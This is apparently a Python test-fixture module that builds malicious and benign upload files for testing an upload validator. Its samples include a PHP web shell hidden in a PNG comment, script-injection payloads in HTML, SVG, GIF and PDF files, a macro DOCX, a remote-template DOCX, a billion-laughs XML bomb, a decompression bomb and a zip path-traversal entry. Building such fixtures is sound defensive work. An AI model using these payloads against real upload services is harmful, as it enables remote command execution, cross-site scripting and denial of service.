"""Bodies of hostile and harmless uploads, each a function that returns bytes.

Taken over from the project's list of bad inputs (families upload and file name).
"""

import io
import struct
import zipfile
import zlib


def _pdf(objs, trailer=b""):
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    return out + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1,
        trailer,
        x,
    )


_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def pdf_min():
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, _PAGE])


def pdf_js():
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
            _PAGES,
            _PAGE,
            b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
        ]
    )


def pdf_embedded():
    d = b"MZ" + b"\0" * 64
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>>>",
            _PAGES,
            _PAGE,
            b"<</Type/EmbeddedFile/Length %d>>stream\n" % len(d) + d + b"\nendstream",
            b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>",
        ]
    )


def pdf_html():
    return b"%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n" + pdf_min()


def pdf_sized(n):
    p = pdf_min()
    return p + b"%" + b"0" * (n - len(p) - 2) + b"\n"


def pdf_encrypted():
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter()
    w.append(PdfReader(io.BytesIO(pdf_min())))
    w.encrypt("mat-khau")
    b = io.BytesIO()
    w.write(b)
    return b.getvalue()


def html():
    return b"<!doctype html><script>alert(document.domain)</script>"


def exe_mz():
    return b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200


def sh():
    return b"#!/bin/sh\nid > /tmp/pwned\n"


def php():
    return b'<?php system($_GET["c"]); ?>'


def svg_script():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def svg_foreign():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/></body></foreignObject></svg>'


def gif_js():
    return b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1);"


def zero():
    return b""


def one_byte():
    return b"%"


def ole2():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def mp4():
    return b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 64


def _ch(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))


def png(w=8, h=8, extra=b"", tail=b""):
    co = zlib.compressobj(9)
    row = b"\0" * (1 + (w + 7) // 8)
    raw = b"".join(co.compress(row) for _ in range(h)) + co.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _ch(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0))
        + extra
        + _ch(b"IDAT", raw)
        + _ch(b"IEND", b"")
        + tail
    )


def png_php():
    return png(extra=_ch(b"tEXt", b"Comment\0<?php system($_GET[c]);?>"))


def jpg_exif_gps():
    from PIL import Image

    im = Image.new("RGB", (16, 16))
    ex = Image.Exif()
    g = ex.get_ifd(0x8825)
    g[1] = "N"
    g[2] = (10.0, 21.0, 30.0)
    g[3] = "E"
    g[4] = (105.0, 31.0, 12.0)
    b = io.BytesIO()
    im.save(b, "JPEG", exif=ex)
    return b.getvalue()


_CT = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>%s</Types>'
_REL = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
_OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(parts, links=()):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for n, d in parts:
            if callable(d):
                with z.open(n, "w", force_zip64=False) as f:
                    d(f)
            else:
                z.writestr(n, d)
        for n, t in links:
            i = zipfile.ZipInfo(n)
            i.create_system = 3
            i.external_attr = 0o120777 << 16
            z.writestr(i, t)
    return b.getvalue()


def docx(extra=(), body="<w:p><w:r><w:t>Biên bản</w:t></w:r></w:p>", ct="", rels=""):
    return _zip(
        [
            (
                "[Content_Types].xml",
                _CT
                % (
                    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
                    + ct
                ),
            ),
            (
                "_rels/.rels",
                _REL
                % f'<Relationship Id="rId1" Type="{_OD}/officeDocument" Target="word/document.xml"/>',
            ),
            (
                "word/document.xml",
                f'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>',
            ),
            ("word/_rels/document.xml.rels", _REL % rels),
            *list(extra),
        ]
    )


def docx_macro():
    return docx(
        extra=[("word/vbaProject.bin", ole2())],
        rels='<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    )


def docx_remote_template():
    return docx(
        rels=f'<Relationship Id="rId8" Type="{_OD}/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/>'
    )


def _xlsx(sheet, shared=None, pre='<?xml version="1.0"?>', extra=(), links=()):
    o = '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return _zip(
        [
            ("[Content_Types].xml", _CT % o),
            (
                "_rels/.rels",
                _REL
                % f'<Relationship Id="rId1" Type="{_OD}/officeDocument" Target="xl/workbook.xml"/>',
            ),
            (
                "xl/workbook.xml",
                pre
                + f'<workbook xmlns="{ns}" xmlns:r="{_OD}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
            ),
            (
                "xl/_rels/workbook.xml.rels",
                _REL
                % (
                    f'<Relationship Id="rId1" Type="{_OD}/worksheet" Target="worksheets/sheet1.xml"/>'
                    + f'<Relationship Id="rId2" Type="{_OD}/sharedStrings" Target="sharedStrings.xml"/>'
                ),
            ),
            (
                "xl/sharedStrings.xml",
                shared or f'<?xml version="1.0"?><sst xmlns="{ns}"><si><t>x</t></si></sst>',
            ),
            ("xl/worksheets/sheet1.xml", sheet),
            *list(extra),
        ],
        links,
    )


_S1 = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'


def xlsx_bomb(mb):
    def sh(f):
        f.write(
            b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        )
        blk = ("<si><t>" + "A" * 1000 + "</t></si>").encode() * 1000
        for _ in range(mb):
            f.write(blk)
        f.write(b"</sst>")

    return _xlsx(_S1, shared=sh)


def xlsx_laughs():
    e = (
        '<!DOCTYPE l [<!ENTITY a "lol">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
        + "]>"
    )
    return _xlsx(
        _S1,
        shared='<?xml version="1.0"?>'
        + e
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>',
    )


def xlsx_slip():
    return _xlsx(_S1, extra=[("../../../../tmp/pwned.txt", "x")])


def xlsx_dimension_lie():
    return _xlsx(_S1.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>'))


def zip_many(n):
    return _zip([(f"f{i}", b"") for i in range(n)])
